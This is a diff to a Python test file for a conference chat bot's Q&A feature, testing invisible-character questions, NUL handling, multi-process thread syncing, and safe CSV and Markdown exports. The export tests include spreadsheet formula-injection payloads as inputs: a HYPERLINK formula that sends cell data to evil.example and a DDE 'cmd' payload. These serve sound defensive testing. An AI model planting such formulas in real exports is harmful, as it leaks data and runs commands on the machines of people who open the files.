@@ -17,6 +17,7 @@ from pathlib import Path
 
 import pytest
 
+from bot.answer_cache import AnswerCache
 from bot.app import open_core
 from bot.messages import Button, IncomingMessage, QuestionView, Reply, ThreadRef, UserRef
 from bot.render_text import render
@@ -53,8 +54,9 @@ class RecordingPublisher:
                           existing: ThreadRef | None) -> ThreadRef:
         if existing is not None and existing.thread_id not in self.gone:
             return existing
-        ref = ThreadRef(self.platform, channel_id, f"thread-{slug}-{len(self.threads)}",
-                        url=f"https://chat.example/{slug}")
+        thread_id = f"thread-{slug}-{len(self.posted)}"
+        ref = ThreadRef(self.platform, channel_id, thread_id,
+                        url=f"https://chat.example/{thread_id}")
         self.threads[slug] = ref
         self.posted.append((ref.thread_id, render(intro)))
         return ref
@@ -359,7 +361,7 @@ async def test_about_a_paper_links_its_thread_on_the_askers_platform(chat: Chat)
     assert "Questions for the speakers" not in before
     await chat.ask("qa setup", **MOD)
     answer = await chat.ask("about engines")
-    assert answer.endswith("Questions for the speakers: https://chat.example/keynote")
+    assert answer.endswith("Questions for the speakers: https://chat.example/thread-keynote-0")
     elsewhere = await chat.ask("about engines", platform="slack")
     assert "Questions for the speakers" not in elsewhere  # no Slack thread was made
 
@@ -371,3 +373,257 @@ async def test_only_qa_commands_need_the_askers_roles(chat: Chat) -> None:
     assert needs(chat.message("pending", command="qa"))
     for text in ("what's next?", "ask engines: Does it run on steam?", "when is kraska"):
         assert not needs(chat.message(text)), text
+
+
+# -- hostile questions and exports (issue 11, item 9) ------------------------------------
+
+INVISIBLE = [
+    "\u200b", "\u200b\u200c\u200d", "\u200e\u200f", "\u202a\u202b\u202c\u202d\u202e",
+    "\u2060\u2061\u2062\u2063\u2064", "\u2066\u2067\u2068\u2069", "\ufeff", "\u00ad",
+    "\U000e0041\U000e0042",  # tag characters
+    "\u180e", "\ufe0f\ufe0e", "\u034f",  # Mongolian vowel separator, variation selectors, CGJ
+    "\u3164\u115f\u1160\uffa0", "\u2800",  # the Hangul fillers, the blank Braille pattern
+    "\u200b \u3000 \u202e\u00a0\u2028",  # mixed with spaces of every kind
+    "\x00\x1b\x7f\x85",  # control characters
+]
+
+
+@pytest.mark.parametrize("invisible", INVISIBLE, ids=lambda t: "+".join(f"{ord(c):04X}" for c in t))
+async def test_a_question_that_shows_nothing_is_refused_like_an_empty_one(
+        chat: Chat, invisible: str) -> None:
+    await chat.ask("qa setup", **MOD)
+    publisher: RecordingPublisher = chat.publisher  # type: ignore[attr-defined]
+    assert await chat.ask(f"ask engines: {invisible}") == "Sorry, your question is empty."
+    thread = publisher.threads["keynote"].thread_id
+    reply = await chat.core.router.handle_thread_message(
+        chat.message(invisible, user="bob", thread=thread), "m-invisible")
+    assert reply is not None and render(reply) == (
+        "Sorry, your question is empty; it was not recorded as a question.")
+    assert await store.questions(chat.core.db) == []
+    # an answer or a reason for hiding that shows nothing is no answer or reason either
+    await chat.ask("ask engines: A real question?", user="bob")
+    assert (await chat.ask(f"qa answer 1 {invisible}", user=ADA)).startswith(
+        "Write “qa answer <id> <your answer>”")
+    assert await chat.ask(f"qa hide 1 {invisible}", **MOD) == "Say why: “qa hide 12 off topic”."
+    assert (await chat.core.qa.get(1))[0].status == "open"  # type: ignore[index]
+
+
+async def test_invisible_characters_around_a_real_question_do_not_refuse_it(chat: Chat) -> None:
+    asked = await chat.ask("ask engines: \u200b\u202eWhy brass?\u200b", user="bob")
+    assert asked == "Thanks! Your question is #1 for “Engines”."
+    for text in ("¿", "😀", "٣", "ّا", "中"):  # punctuation, a symbol, a number, letters
+        assert (await chat.ask(f"ask engines: {text}", user="bob")).startswith("Thanks!"), text
+
+
+async def test_a_nul_in_a_question_is_a_space_not_a_database_error(chat: Chat) -> None:
+    asked = await chat.ask("ask engines: Why\x00 brass\x1b?", user="bob")
+    assert asked == "Thanks! Your question is #1 for “Engines”."
+    assert (await chat.core.qa.get(1))[0].text == "Why brass ?"  # type: ignore[index]
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(A1:A9)", "=1,2;3\"\n=4"]
+
+
+async def test_csv_exports_neutralise_formulas_in_every_text_cell(chat: Chat) -> None:
+    """OWASP: a cell a spreadsheet would run gets a single quote first; every field is
+    quoted, so no separator or quote inside a text starts a cell of its own."""
+    await chat.ask("qa setup", **MOD)
+    for n, formula in enumerate(FORMULAS[:4], start=1):
+        name = formula if n < 3 else "\t=tab" if n == 3 else "\r=cr"
+        question = IncomingMessage(UserRef("discord", f"user{n}", name), f"ask engines: {formula}")
+        assert render(await chat.core.router.handle(question)).startswith("Thanks!")
+    assert (await chat.ask(f"qa answer 1 {FORMULAS[4]}", user=ADA)).startswith("Your answer")
+    await chat.ask("qa hide 2 @evil reason", **MOD)
+    moderated = await chat.core.router.handle(chat.message("qa export all csv", **MOD))
+    public = await chat.core.router.handle(chat.message("qa export all csv", user="zed"))
+    for export in (moderated, public):
+        assert export.attachment is not None
+        data = export.attachment.data.decode()
+        rows = list(csv.reader(io.StringIO(data)))
+        header, cells = rows[0], [cell for row in rows[1:] for cell in row]
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
+        records = [dict(zip(header, row, strict=True)) for row in rows[1:]]
+        by_id = {r["id"]: r for r in records}
+        assert by_id["1"]["question"] == "'" + FORMULAS[0]
+        assert by_id["1"]["answer"] == "'" + " ".join(FORMULAS[4].split())  # one line
+        assert by_id["3"]["question"] == "'-2+3"
+        assert by_id["4"]["question"] == "'@SUM(A1:A9)"
+        lines = data.splitlines()
+        assert all(line.startswith('"') and line.endswith('"') for line in lines[:2])
+    moderated_rows = {r["id"]: r for r in csv.DictReader(io.StringIO(
+        moderated.attachment.data.decode()))}  # type: ignore[union-attr]
+    assert moderated_rows["1"]["author"] == "'" + FORMULAS[0]
+    assert moderated_rows["2"]["author"] == "'" + FORMULAS[1]
+    assert moderated_rows["3"]["author"] == "'\t=tab"
+    assert moderated_rows["4"]["author"] == "'\r=cr"
+    assert moderated_rows["2"]["reason"] == "'@evil reason"
+
+
+async def test_markdown_exports_show_question_texts_as_plain_words(chat: Chat) -> None:
+    await chat.ask("ask engines: see [click](https://evil.example) **now** <b>x</b> `code`",
+                   user="bob")
+    await chat.ask("qa answer 1 line one\n# not a heading\n- not an item", user=ADA)
+    export = await chat.core.router.handle(chat.message("qa export all md", **MOD))
+    text = export.attachment.data.decode()  # type: ignore[union-attr]
+    [question, answer] = [line for line in text.splitlines() if line.startswith(("- **#", "  -"))]
+    assert question.endswith(r": see \[click\](https://evil.example) \*\*now\*\* \<b\>x\</b\> "
+                             r"\`code\`")
+    assert answer == r"  - Answer: line one \# not a heading - not an item"
+
+
+async def test_a_pending_question_is_not_confirmed_to_those_who_may_not_see_it(
+        database_url: str, tmp_path: Path) -> None:
+    """Votes by number and answers on a question waiting for approval: for anyone but its
+    asker and the moderators, the reply is the one for a number nobody has, and nothing
+    changes. A 👍 on its message in the thread (which the reactor sees) still counts."""
+    path = tmp_path / "program.yaml"
+    path.write_text(QA_PROGRAM + "qa: {premoderation: true}\n")
+    async with open_core(make_settings(database_url, path), ManualClock(at("09:30"))) as core:
+        core.qa.attach(RecordingPublisher())
+        chat = Chat(core, core.clock)
+        await chat.ask("qa setup", **MOD)
+        await chat.ask("ask engines: Is it Turing complete?", user="bob")  # #1, pending
+        await chat.ask("ask engines: Spam?", user="bob")  # #2, hidden before anyone saw it
+        await chat.ask("qa hide 2 spam", **MOD)
+
+        async def said(text: str, **options: object) -> tuple[str, str]:
+            reply = await core.router.handle(chat.message(text, **options))  # type: ignore[arg-type]
+            return render(reply), reply.kind
+
+        for number in (1, 2):
+            for words, options in ((f"qa upvote {number}", {}), (f"qa unvote #{number}", {}),
+                                   (str(number), {"command": "upvote"}),  # a button press
+                                   (f"qa answer {number} Yes.", {"user": ADA})):
+                nobody = await said(words.replace(str(number), "4242"), **{"user": "eve",
+                                                                           **options})
+                assert await said(words, **{"user": "eve", **options}) == (
+                    nobody[0].replace("4242", str(number)), nobody[1]), words
+        assert await store.vote_count(core.db, 1) == 0
+        assert (await core.qa.get(1))[0].status == "pending"  # type: ignore[index]
+        # the asker and the moderators know of it
+        assert await chat.ask("qa upvote 1", user="bob") == (
+            "You cannot upvote your own question (#1).")
+        assert await chat.ask("qa upvote 1", **MOD) == (
+            "Question #1 is waiting for approval; votes count once it is approved.")
+        assert await chat.ask("qa upvote 2", **MOD) == "Question #2 is no longer open for votes."
+        assert await store.vote_count(core.db, 1) == 0
+        # a question asked in the thread is a message the thread shows: 👍 counts
+        thread = core.qa.threads.loaded.by_item[("discord", 1)].thread_id  # type: ignore[union-attr]
+        await core.router.handle_thread_message(
+            chat.message("In the thread?", user="carol", thread=thread), "m-3")
+        assert await core.qa.vote_by_message("discord", "m-3", "eve", add=True) == "added"
+        # approved, the question is everyone's
+        await chat.ask("qa approve 1", **MOD)
+        assert await chat.ask("qa upvote 1", user="eve") == "👍 Counted: you upvoted #1 (now 1)."
+        # an attendee's export holds what the threads show; a moderator's everything
+        public = await core.router.handle(chat.message("qa export all json", user="zed"))
+        assert [r["id"] for r in json.loads(public.attachment.data)] == [1]  # type: ignore[union-attr]
+        moderated = await core.router.handle(chat.message("qa export all json", **MOD))
+        assert [r["id"] for r in json.loads(moderated.attachment.data)] == [1, 2, 3]  # type: ignore[union-attr]
+
+
+# -- a second process on the same database (issue 11, item 3) ----------------------------
+
+
+@pytest.fixture
+async def two(database_url: str, tmp_path: Path) -> AsyncIterator[tuple[Chat, Chat]]:
+    """The running bot and a second process (``workshop-bot qa setup``, or another
+    instance) on one database, each with its own platform connection."""
+    path = tmp_path / "program.yaml"
+    path.write_text(QA_PROGRAM)
+    settings = make_settings(database_url, path)
+    clock = ManualClock(at("09:30"))
+    async with open_core(settings, clock) as running, open_core(settings, clock) as other:
+        chats = []
+        for core in (running, other):
+            publisher = RecordingPublisher()
+            core.qa.attach(publisher)
+            chat = Chat(core, clock)
+            chat.publisher = publisher  # type: ignore[attr-defined]
+            chats.append(chat)
+        # The bot's clock stands still and so does real time: only the Q&A revision can
+        # tell the answer cache that an answer went stale.
+        running.router.answers = AnswerCache(real_seconds=lambda: 0.0)
+        yield chats[0], chats[1]
+
+
+async def test_a_question_in_a_thread_another_process_just_made_is_taken(
+        two: tuple[Chat, Chat]) -> None:
+    bot, setup = two
+    theirs: RecordingPublisher = setup.publisher  # type: ignore[attr-defined]
+    await setup.ask("qa setup", **MOD)
+    first = theirs.threads["keynote"]
+    asked = await bot.core.router.handle_thread_message(
+        bot.message("First?", user="bob", thread=first.thread_id), "m-1")
+    assert asked is not None and render(asked) == "Thanks! Your question is #1 for “Engines”."
+    # the other process recreates every thread (deleted on the platform); at once, a
+    # question in the new keynote thread reaches the running bot
+    theirs.gone |= {ref.thread_id for ref in theirs.threads.values()}
+    again = await setup.ask("qa setup", **MOD)
+    assert again == "Q&A threads on discord: 0 created, 0 already there, 3 recreated."
+    renewed = theirs.threads["keynote"]
+    assert renewed.thread_id != first.thread_id
+    asked = await bot.core.router.handle_thread_message(
+        bot.message("Second?", user="carol", thread=renewed.thread_id), "m-2")
+    assert asked is not None and render(asked) == "Thanks! Your question is #2 for “Engines”."
+    question, item = await bot.core.qa.get(2)  # type: ignore[misc]
+    assert (question.text, item.slug, question.message_ref) == ("Second?", "keynote", "m-2")
+    # a thread that is no Q&A thread is still none of the bot's business
+    assert await bot.core.router.handle_thread_message(
+        bot.message("hello", thread="some-other-thread"), "m-3") is None
+
+
+async def test_links_and_posts_follow_threads_another_process_recreated(
+        two: tuple[Chat, Chat]) -> None:
+    bot, setup = two
+    theirs: RecordingPublisher = setup.publisher  # type: ignore[attr-defined]
+    mine: RecordingPublisher = bot.publisher  # type: ignore[attr-defined]
+    await setup.ask("qa setup", **MOD)
+    await bot.core.qa.poll_threads()  # as every BOT_RELOAD_POLL seconds
+    old = theirs.threads["turing"]
+    assert (await bot.ask("about machines")).endswith(f"Questions for the speakers: {old.url}")
+    theirs.gone.add(old.thread_id)
+    assert (await setup.ask("qa setup", **MOD)).endswith("1 recreated.")
+    new = theirs.threads["turing"]
+    # what the bot posts goes to the new thread at once
+    assert (await bot.ask("ask machines: Can they think?", user="dan")).startswith("Thanks!")
+    assert mine.posted[-1] == (new.thread_id, "❓ #1 from Dan: “Can they think?”")
+    # and the poll (every BOT_RELOAD_POLL seconds) brings the links along: the same clock
+    # second and the same real second, yet the answer cache gives the new link
+    await bot.core.qa.poll_threads()
+    assert (await bot.ask("about machines")).endswith(f"Questions for the speakers: {new.url}")
+
+
+async def test_the_poll_reads_the_threads_only_when_their_revision_moved(
+        two: tuple[Chat, Chat]) -> None:
+    bot, setup = two
+    threads = bot.core.qa.threads
+    before = threads.loaded
+    assert before is not None  # read at start
+    assert not await threads.refresh()
+    assert threads.loaded is before
+    await setup.ask("qa setup", **MOD)
+    assert await threads.refresh()
+    assert threads.loaded is not before and len(threads.loaded.by_item) == 3  # type: ignore[union-attr]
+    assert not await threads.refresh()
+
+
+async def test_controls_and_long_reasons_get_one_line_not_a_database_error(chat: Chat) -> None:
+    """PostgreSQL refuses a NUL in text and a reason longer than its column: the bot must
+    not hand either to it (nor take the error for the database being away)."""
+    await chat.ask("ask engines: Why brass?", user="bob")
+    answered = await chat.ask("qa answer 1 Yes\x00, by\x07 steam.", user=ADA)
+    assert answered.startswith("Your answer to #1 is posted")
+    assert (await chat.core.qa.get(1))[0].answer == "Yes , by  steam."  # type: ignore[index]
+    await chat.ask("ask engines: Spam?", user="bob")
+    too_long = await chat.ask("qa hide 2 " + "x" * 501, **MOD)
+    assert too_long == (
+        "Sorry, the reason has 501 characters; the limit is 500; nothing was changed.")
+    assert (await chat.core.qa.get(2))[0].status == "open"  # type: ignore[index]
+    hidden = await chat.ask("qa hide 2 " + "\x00y" * 250, **MOD)
+    assert hidden.startswith("Question #2 is hidden")
+    assert (await chat.core.qa.get(2))[0].reason == (" y" * 250).strip()  # type: ignore[index]
+    named = IncomingMessage(UserRef("discord", "nul", "Nul\x00" + "n" * 300), "ask engines: Hi?")
+    assert render(await chat.core.router.handle(named)).startswith("Thanks!")
+    assert (await chat.core.qa.get(3))[0].author_name == "Nul " + "n" * 196  # type: ignore[index]
